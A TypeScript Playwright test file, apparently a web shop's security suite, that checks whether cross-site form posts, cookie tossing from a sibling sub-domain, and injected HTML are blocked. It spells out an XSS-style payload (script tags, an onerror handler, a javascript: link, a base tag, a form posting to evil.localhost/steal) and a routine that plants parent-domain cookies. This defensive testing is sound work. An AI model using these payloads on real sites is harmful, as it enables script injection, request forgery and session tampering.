import type { Browser, BrowserContext } from 'playwright';
import { hasBeenAsked } from '../setup/been-asked.ts';
import { type Attack, checker } from './attack.ts';

const TOSSED = 200;

/** One browser window whose pages on `evil.*` are the attacker's; all else is the real server. */
async function windowWithEvil(browser: Browser, html: string): Promise<BrowserContext> {
  const context = await browser.newContext();
  await hasBeenAsked(context);
  await context.route(/^http:\/\/evil\./, (route) =>
    route.fulfill({ contentType: 'text/html', body: `<!doctype html><title>Evil</title>${html}` }),
  );
  return context;
}

/** S9: a sibling restaurant's page. Browsers send it the victim's cookies, SameSite or not. */
const sibling: Attack = {
  id: 'S9',
  title: 'a page of a sibling sub-domain can neither post to a restaurant nor plant cookies',
  async run(target) {
    const { faults, check, checkUnchanged } = checker();
    const victim = `http://demo.shop.localhost:${target.store.port}`;
    const evil = `http://evil.shop.localhost:${target.store.port}`;
    const form = `<form method=post action="${victim}/"><input name=productId value="${target.productId}">
      <input name=intent value=add><input name=qty value=1><button>Win</button></form>`;
    const context = await windowWithEvil(await target.browser(), form);
    try {
      const page = await context.newPage();
      await page.goto(victim);
      await Promise.all([
        page.waitForResponse((response) => response.request().method() === 'POST'),
        page.locator('main form[method=post] button').first().click(),
      ]);
      await page.waitForLoadState();
      const before = await target.state();
      await page.goto(evil);
      const [answer] = await Promise.all([
        page.waitForResponse((response) => response.request().method() === 'POST'),
        page.getByRole('button').click(),
      ]);
      const sent = await answer.request().allHeaders();
      check(
        /(^|\s)cart=/.test(sent.cookie ?? ''),
        'the browser sent no cookie, so this attack proved nothing',
      );
      check(answer.status() === 403, `a form of a sibling answers ${answer.status()}`);
      await checkUnchanged(target, before, 'a form of a sibling changed the store');
      await toss(context, evil);
      const home = await page.goto(victim);
      check(home?.status() === 200, `with tossed cookies the menu answers ${home?.status()}`);
      check(!(await page.content()).includes('planted-by-evil'), 'a tossed cookie shows on the page');
      await checkUnchanged(target, before, 'a tossed cookie changed the store');
    } finally {
      await context.close();
    }
    return faults;
  },
};

/** Cookies for the whole parent domain, under our own names and many others. */
async function toss(context: BrowserContext, evil: string): Promise<void> {
  const page = await context.newPage();
  await page.goto(evil);
  await page.evaluate((count) => {
    const ours = ['cart', 'promotions', 'form', 'flash', 'preference', 'orders', 'receiver', '__Host-cart'];
    const others = Array.from({ length: count }, (_, index) => `junk${index}`);
    for (const name of [...ours, ...others]) {
      // biome-ignore lint/suspicious/noDocumentCookie: this is how an attacker's page plants them
      document.cookie = `${name}=planted-by-evil; Domain=shop.localhost; Path=/`;
    }
  }, TOSSED);
  await page.close();
}

const INJECTED = `<base href="http://evil.localhost/"><script>window.inline = true</script>
  <script src="http://evil.localhost/x.js"></script><img src="data:," onerror="window.handler = true">
  <a id="js-link" href="javascript:window.link = true">x</a>
  <form id="to-evil" method="post" action="http://evil.localhost/steal"><button>x</button></form>
  <iframe src="http://evil.localhost/"></iframe><object data="http://evil.localhost/x.swf"></object>
  <style>:root { --injected: 1px }</style><p id="styled" style="position: fixed">x</p>`;

/** S35: markup that slipped into a page does nothing under the policy the server sent with it. */
const injection: Attack = {
  id: 'S35',
  title: 'injected script, base, style, frame and form target are dead in a real Chromium',
  async run(target) {
    const { faults, check } = checker();
    const context = await windowWithEvil(await target.browser(), '');
    try {
      const page = await context.newPage();
      const reached: string[] = [];
      page.on('requestfinished', (request) => {
        if (request.url().includes('evil.localhost')) reached.push(request.url());
      });
      // our own scripts draw the page anew where it is not what they expect, with nothing injected in it
      await page.route('**/assets/*.js', (route) => route.abort());
      for (const path of ['/', `/item/${target.productId}`, '/checkout']) {
        // fetched by ourselves: Node does not find *.localhost on every machine
        const { status, headers, body } = await target.send({ path, headers: { accept: 'text/html' } });
        const { 'transfer-encoding': _chunked, connection: _connection, ...kept } = headers;
        await page.route(target.store.origin + path, (route) =>
          route.fulfill({ status, headers: kept, body: body.replace(/<body[^>]*>/, `$&${INJECTED}`) }),
        );
        await page.goto(target.store.origin + path);
        const alive = await page.evaluate(() => ({
          ran: ['inline', 'handler', 'link'].filter((name) => name in window).join(),
          base: document.querySelector('base') ? document.baseURI : '',
          styled: getComputedStyle(document.documentElement).getPropertyValue('--injected'),
          fixed: getComputedStyle(document.getElementById('styled') ?? document.body).position,
          injected: document.getElementById('to-evil') !== null,
        }));
        check(
          alive.injected,
          `${path}: nothing was injected into an answer of ${status}, so this attack proved nothing`,
        );
        check(alive.ran === '', `${path}: ran ${alive.ran}`);
        check(!alive.base.includes('evil'), `${path}: <base> took effect`);
        check(alive.styled === '' && alive.fixed !== 'fixed', `${path}: injected style took effect`);
        await page.evaluate(() => {
          document.getElementById('js-link')?.click();
          document.querySelector<HTMLFormElement>('#to-evil')?.submit();
        });
        // the page's own next task comes after whatever those two would have started
        await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => resolve(null))));
        check(page.url().startsWith(target.store.origin), `${path}: a form left for ${page.url()}`);
        check(!(await page.evaluate(() => 'link' in window)), `${path}: a javascript: link ran`);
        await page.unroute(target.store.origin + path);
      }
      check(reached.length === 0, `reached ${[...new Set(reached)].join()}`);
    } finally {
      await context.close();
    }
    return faults;
  },
};

export const browserAttacks = [sibling, injection];
